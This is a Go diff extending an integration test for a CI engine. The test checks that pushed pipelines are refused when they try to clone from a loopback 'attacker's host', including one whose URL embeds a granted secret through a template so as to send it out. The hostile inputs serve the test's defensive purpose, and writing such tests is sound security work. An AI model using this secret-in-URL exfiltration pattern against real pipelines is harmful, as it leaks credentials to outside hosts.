@@ -3,8 +3,10 @@ package integration
 import (
 	"context"
 	"fmt"
+	"net"
 	"path/filepath"
 	"strings"
+	"sync/atomic"
 	"testing"
 
 	"github.com/slipwayci/slipway/integration/gitserver"
@@ -51,6 +53,7 @@ func TestHostilePushesAreRefused(t *testing.T) {
 	writeFile(t, dir, "gitea-token", g.Token+"\n")
 	writeFile(t, dir, "ops-token", "ops-token-value\n")
 	writeFile(t, dir, "deploy-token", "deploy-token-value-42\n")
+	writeFile(t, dir, "read-token", "read-token-value-7\n")
 	config := writeFile(t, dir, "slipway.yaml", fmt.Sprintf(engineHeader+`  - name: team-a
     url: %q
     forge: gitea
@@ -60,6 +63,7 @@ func TestHostilePushesAreRefused(t *testing.T) {
     apps: [{name: team-a}]
     secrets:
       - {name: DEPLOY_TOKEN, from: {file: deploy-token}, branches: [main]}
+      - {name: READ_TOKEN, from: {file: read-token}}
   - {name: team-b, url: %q, forge: gitea, webhookSecret: {file: hook-secret}, pipelines: [{file: team-b.yaml}]}
 tokens:
   - {name: ops, role: admin, secret: {file: ops-token}}
@@ -133,6 +137,40 @@ tokens:
 			t.Errorf("run %s %q", status, reason)
 		}
 	})
+	// The attacker's host, on loopback: a refused run must never connect to it.
+	attacker, err := net.Listen("tcp", "127.0.0.1:0")
+	must(t, err)
+	defer attacker.Close()
+	var reached atomic.Int32
+	go func() {
+		for {
+			c, err := attacker.Accept()
+			if err != nil {
+				return
+			}
+			reached.Add(1)
+			c.Close()
+		}
+	}()
+	for _, tt := range []struct{ name, repo, want string }{
+		{"a clone source that carries a granted secret", "http://" + attacker.Addr().String() + "/{{ .Secrets.READ_TOKEN }}.git", "clone.repo must be written literally"},
+		{"a clone source outside cloneFrom", "http://" + attacker.Addr().String() + "/other.git", "may clone only itself or what cloneFrom lists"},
+	} {
+		t.Run(tt.name+" is refused and never fetched", func(t *testing.T) {
+			p := fmt.Sprintf("apiVersion: slipway.dev/v1\nkind: Pipeline\nmetadata: {name: team-a}\non: {push: {branches: [\"**\"]}}\nsecrets: [READ_TOKEN]\n"+
+				"stages:\n  - {name: clone, clone: {repo: %q}}\n", tt.repo)
+			status, reason, logs := runOf(push("feature", p))
+			if status != "failed" || !strings.Contains(reason, tt.want) {
+				t.Errorf("run %s %q, want failed with %q", status, reason, tt.want)
+			}
+			if strings.Contains(logs, "read-token-value-7") || strings.Contains(reason, "read-token-value-7") {
+				t.Errorf("the granted secret is in the run: %q\n%s", reason, logs)
+			}
+		})
+	}
+	if n := reached.Load(); n != 0 {
+		t.Errorf("refused runs connected to the attacker's host %d times", n)
+	}
 	t.Run("another repository's concurrency group cannot be cancelled", func(t *testing.T) {
 		b, err := gitserver.Clone(g.CloneURLWithToken(teamBURL), filepath.Join(dir, "team-b"))
 		must(t, err)
